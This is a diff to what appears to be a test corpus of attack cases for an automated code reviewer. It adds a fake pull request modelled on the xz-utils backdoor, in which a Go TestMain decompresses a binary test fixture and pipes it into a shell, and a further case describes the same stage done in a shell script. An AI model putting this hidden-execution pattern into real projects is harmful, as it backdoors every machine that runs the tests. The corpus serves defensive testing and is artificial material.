@@ -1569,6 +1569,25 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
   },
   {
+    id: 'attack-go-testmain-unpacks-fixture-into-shell',
+    description:
+      'The xz-utils backdoor\'s shape (CVE-2024-3094) moved into Go test code: a long-standing maintainer adds a "corrupt header" gzip fixture, binary, and a TestMain that opens it through gzip.NewReader and feeds it to exec.Command("sh") on stdin before the tests run: `go test` on any machine or CI job runs what the fixture holds.',
+    fixture: () =>
+      attackPr({
+        repo: 'lzgo',
+        number: 11233,
+        title: 'test: add fixtures for the header decoder',
+        files: [
+          { path: 'testdata/corrupt-header.gz', status: 'added', patch: null, additions: 0, deletions: 0, head: '' },
+          {
+            path: 'decoder_main_test.go',
+            head: lines('package decoder', '', 'import (', '\t"compress/gzip"', '\t"os"', '\t"os/exec"', '\t"testing"', ')', '', 'func TestMain(m *testing.M) {', '\tif f, err := os.Open("testdata/corrupt-header.gz"); err == nil {', '\t\tif r, err := gzip.NewReader(f); err == nil {', '\t\t\tcmd := exec.Command("sh")', '\t\t\tcmd.Stdin = r', '\t\t\t_ = cmd.Run()', '\t\t}', '\t}', '\tos.Exit(m.Run())', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code', 'binary-artifact'] },
+  },
+  {
     id: 'attack-test-script-unpacks-fixture-into-shell',
     description:
       'The xz-utils stage (CVE-2024-3094) moved from a build macro to a test script: an "add corrupted-stream test" PR adds a binary fixture and a line to tests/run.sh that cuts bytes out of it, maps them back with a tr substitution, decompresses them with xz and pipes the result into /bin/sh; the code that runs is in no file a reviewer reads.',
